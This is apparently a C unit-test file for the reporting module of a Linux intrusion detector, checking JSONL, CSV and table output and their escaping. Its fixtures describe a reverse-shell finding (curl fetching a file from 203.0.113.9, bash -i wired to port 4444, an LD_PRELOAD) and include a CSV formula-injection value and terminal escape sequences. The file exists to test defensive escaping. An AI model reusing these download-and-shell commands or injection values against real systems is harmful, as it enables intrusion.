/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "report/report.h"

#include <check.h>
#include <jansson.h>
#include <stdlib.h>
#include <string.h>

#include "base/compiler.h"
#include "base/escape.h"
#include "report/text.h"
#include "unit/sample.h"

/* What a format makes of one finding; freed with free. */
static char *written(const char *format, struct finding *f,
		     const struct report_options *o)
{
	static const struct report_options none;
	struct report report;
	char *text = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&text, &len);

	report_begin(&report, report_format_find(format), out, o ? o : &none);
	report_finding(&report, 1, f);
	ck_assert_int_eq(report_end(&report, NULL), 0);
	ck_assert_uint_eq(report.count, 1);
	fclose(out);
	finding_free(&f);
	return text;
}

/* The project's description of a finding, key for key and in its order. */
static const char shell_json[] =
	"{\"id\":1,\"uid\":\"11112222333344445555666677778888\","
	"\"detector\":\"reverse_shell\",\"title\":\"Reverse Shell\","
	"\"severity\":\"critical\",\"confidence\":\"high\","
	"\"techniques\":[\"T1059.004\",\"T1105\"],"
	"\"tactics\":[\"execution\",\"command-and-control\"],"
	"\"first_seen\":\"2026-11-21T23:25:58.915Z\","
	"\"last_seen\":\"2026-11-21T23:25:59.915Z\",\"count\":1,\"host\":\"node1\","
	"\"summary\":\"bash (pid 812) reads its input from and writes its output to "
	"203.0.113.9:4444\","
	"\"confirmed\":\"fds 0, 1 and 2 were that connection while it ran\","
	"\"process\":{\"uid\":\"p-812\",\"pid\":812,\"ppid\":800,\"exe\":\"/usr/bin/"
	"bash\","
	"\"argv\":[\"bash\",\"-i\"],\"cwd\":\"/srv\",\"uid_name\":\"www-data\","
	"\"user_id\":33,\"auid\":4294967295,\"ses\":4294967295,\"tty\":\"(none)\","
	"\"started\":\"2026-11-21T23:25:58.900Z\","
	"\"env\":[\"LD_PRELOAD=/tmp/.x.so\"]},"
	"\"ancestry\":[{\"pid\":800,\"exe\":\"/usr/sbin/nginx\",\"argv\":[\"nginx\"]},"
	"{\"pid\":1}],"
	"\"target\":{\"path\":\"/tmp/x\",\"kind\":\"binary\",\"sha256\":"
	"\"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\","
	"\"how\":\"not in the "
	"manifest\",\"writer\":{\"pid\":790,\"exe\":\"/usr/bin/curl\","
	"\"argv\":[\"curl\",\"-o\",\"/tmp/x\",\"http://203.0.113.9/x\"]},"
	"\"origin\":\"http://203.0.113.9/x\"},"
	"\"network\":{\"direction\":\"outbound\",\"family\":\"inet\","
	"\"remote_addr\":\"203.0.113.9\",\"remote_port\":4444,\"mechanism\":\"dup\","
	"\"fds\":[0,1,2]},"
	"\"container\":{\"id\":"
	"\"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\","
	"\"name\":\"web\",\"image\":\"registry/web:1.4\",\"image_digest\":\"sha256:aa\","
	"\"pod\":\"web-7c9\",\"namespace\":\"shop\",\"runtime\":\"containerd\","
	"\"via\":\"exec\"},"
	"\"manifest\":\"registry/web:1.4\","
	"\"evidence\":[{\"node\":\"node1\",\"time\":\"2026-11-21T23:25:58.910Z\","
	"\"serial\":325,\"what\":\"connect 203.0.113.9:4444\"},"
	"{\"node\":\"node1\",\"time\":\"2026-11-21T23:25:58.915Z\",\"serial\":326,"
	"\"what\":\"dup2 3 -> 0\"}],"
	"\"links\":{\"virustotal\":\"https://www.virustotal.com/gui/file/"
	"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\","
	"\"attack\":[\"https://attack.mitre.org/techniques/T1059/004/\","
	"\"https://attack.mitre.org/techniques/T1105/\"]}}\n";

START_TEST(json_is_as_described)
{
	char *text = written("jsonl", sample_shell(), NULL);

	ck_assert_str_eq(text, shell_json);
	free(text);
}
END_TEST

START_TEST(json_has_no_key_for_the_unknown)
{
	char *text = written("jsonl", sample_bare(), NULL);

	ck_assert_str_eq(text,
			 "{\"id\":1,\"uid\":\"00000000000000000000000000000000\","
			 "\"detector\":\"deleted_binary_executed\","
			 "\"title\":\"Execution of a deleted file\","
			 "\"severity\":\"high\",\"confidence\":\"high\","
			 "\"techniques\":[\"T1070.004\"],\"tactics\":[\"stealth\"],"
			 "\"count\":1,\"links\":{\"attack\":"
			 "[\"https://attack.mitre.org/techniques/T1070/004/\"]}}\n");
	free(text);
}
END_TEST

START_TEST(json_gives_every_byte_back)
{
	struct finding *f = sample_hostile();
	const struct finding_process *p = f->process;
	char *text = written("jsonl", sample_hostile(), NULL);
	json_t *root = json_loads(text, 0, NULL);
	json_t *argv = json_object_get(json_object_get(root, "process"), "argv");

	ck_assert_uint_eq(json_array_size(argv), p->argc);
	for (size_t i = 0; i < p->argc; i++) {
		struct strbuf back;

		strbuf_init(&back);
		unescape_add(&back,
			     slice_str(json_string_value(json_array_get(argv, i))));
		ck_assert_str_eq(strbuf_str(&back), p->argv[i]);
		strbuf_fini(&back);
	}
	json_decref(root);
	free(text);
	finding_free(&f);
}
END_TEST

START_TEST(json_has_raw_records_when_asked)
{
	struct report_options raw = { .raw = true };
	char *text = written("jsonl", sample_shell(), &raw);
	json_t *root = json_loads(text, 0, NULL);
	json_t *lines = json_object_get(
		json_array_get(json_object_get(root, "evidence"), 0), "raw");

	ck_assert_uint_eq(json_array_size(lines), 2);
	ck_assert_str_eq(
		json_string_value(json_array_get(lines, 1)),
		"type=SOCKADDR msg=audit(1795303558.910:325): saddr=0200115CCB0071090000000000000000");
	json_decref(root);
	free(text);
}
END_TEST

static const char *const names[] = { "table", "jsonl", "csv" };

START_TEST(nothing_acts_on_a_terminal)
{
	char *text = written(names[_i], sample_hostile(), NULL);

	for (struct slice s = slice_str(text); s.len > 0;) {
		unsigned cp = 0;
		size_t len = utf8_scan(s, &cp);

		ck_assert_uint_ne(len, 0);
		ck_assert_msg(cp == '\n' || cp == '\r' || (cp >= 0x20 && cp < 0x7f) ||
				      cp > 0x9f,
			      "%s: U+%04X", names[_i], cp);
		ck_assert(cp != 0x202e && cp != 0x200b);
		s = slice_skip(s, len);
	}
	free(text);
}
END_TEST

START_TEST(csv_is_rfc_4180)
{
	char *text = written("csv", sample_hostile(), NULL);
	char *row = strstr(text, "\r\n") + 2;

	ck_assert(strncmp(text, "id,severity,", 12) == 0);
	/* One record: no line end but the last. */
	ck_assert_str_eq(strstr(row, "\r\n"), "\r\n");
	ck_assert_ptr_null(memchr(row, '\n', strlen(row) - 1));
	/* A formula is text, quotes are doubled. */
	ck_assert_ptr_nonnull(strstr(
		row, ",\"'=HYPERLINK(\"\"http://evil\"\") /tmp/a\\x0ab ran\\xff\","));
	free(text);
}
END_TEST

static const struct {
	const char *cell, *written;
} formulas[] = {
	{ "=1+1", "'=1+1" }, { "+1", "'+1" },    { "-1", "'-1" },
	{ "@x", "'@x" },     { "a=1", ",a=1," }, { "a\"b", "\"a\"\"b\"" },
};

START_TEST(csv_cells_are_no_formulas)
{
	struct finding *f = sample_bare();
	char *text;

	f->host = formulas[_i].cell;
	text = written("csv", f, NULL);
	ck_assert_msg(strstr(text, formulas[_i].written) != NULL, "%s", text);
	free(text);
}
END_TEST

START_TEST(table_is_a_line)
{
	char *text = written("table", sample_shell(), NULL);

	ck_assert_str_eq(
		text,
		"   ID  SEVERITY  TIME (UTC)           WHAT HAPPENED\n"
		"    1  critical  2026-11-21 23:25:58  Reverse Shell [web on node1]: "
		"bash (pid "
		"812) reads its input from and writes its output to 203.0.113.9:4444\n");
	free(text);
}
END_TEST

START_TEST(table_wraps_on_a_terminal)
{
	struct report_options options = { .width = 80, .color = true };
	char *text = written("table", sample_shell(), &options);

	ck_assert_str_eq(
		text,
		"\033[1m   ID  SEVERITY  TIME (UTC)           WHAT HAPPENED\033[0m\n"
		"    1  \033[1;97;41mcritical\033[0m  2026-11-21 23:25:58  "
		"Reverse Shell [web on node1]: bash (pid\n"
		"                                      "
		"812) reads its input from and writes its\n"
		"                                      "
		"output to 203.0.113.9:4444\n");
	free(text);
}
END_TEST

static const struct {
	const char *const argv[5];
	uint64_t total;
	const char *shown;
} commands[] = {
	{ { "bash", "-i" }, 2, "bash -i" },
	{ { "sh", "-c", "id; ls" }, 3, "sh -c 'id; ls'" },
	{ { "echo", "it's" }, 2, "echo 'it'\\''s'" },
	{ { "x", "" }, 2, "x ''" },
	{ { "x", "\x1b[2J" }, 2, "x '\\x1b[2J'" },
	{ { "x", "y" }, 90000, "x y ... (90000 arguments)" },
};

START_TEST(commands_read_as_typed)
{
	struct strbuf sb;
	size_t argc = 0;

	while (commands[_i].argv[argc])
		argc++;
	strbuf_init(&sb);
	text_add_command(&sb, commands[_i].argv, argc, commands[_i].total);
	ck_assert_str_eq(strbuf_str(&sb), commands[_i].shown);
	strbuf_fini(&sb);
}
END_TEST

START_TEST(a_full_device_is_an_error)
{
	static const struct report_options none;
	FILE *out = fopen("/dev/full", "w");
	struct finding *f = sample_shell();
	struct report report;
	struct err err = { 0 };

	ck_assert_ptr_nonnull(out);
	report_begin(&report, report_format_find("jsonl"), out, &none);
	report_finding(&report, 1, f);
	ck_assert_int_eq(report_end(&report, &err), -1);
	ck_assert_ptr_nonnull(strstr(err.msg, "No space left"));
	fclose(out);
	finding_free(&f);
}
END_TEST

Suite *suite_report(void);

Suite *suite_report(void)
{
	Suite *suite = suite_create("report");
	TCase *tc = tcase_create("report");

	tcase_add_test(tc, json_is_as_described);
	tcase_add_test(tc, json_has_no_key_for_the_unknown);
	tcase_add_test(tc, json_gives_every_byte_back);
	tcase_add_test(tc, json_has_raw_records_when_asked);
	tcase_add_loop_test(tc, nothing_acts_on_a_terminal, 0, ARRAY_SIZE(names));
	tcase_add_test(tc, csv_is_rfc_4180);
	tcase_add_loop_test(tc, csv_cells_are_no_formulas, 0, ARRAY_SIZE(formulas));
	tcase_add_test(tc, table_is_a_line);
	tcase_add_test(tc, table_wraps_on_a_terminal);
	tcase_add_loop_test(tc, commands_read_as_typed, 0, ARRAY_SIZE(commands));
	tcase_add_test(tc, a_full_device_is_an_error);
	suite_add_tcase(suite, tc);
	return suite;
}
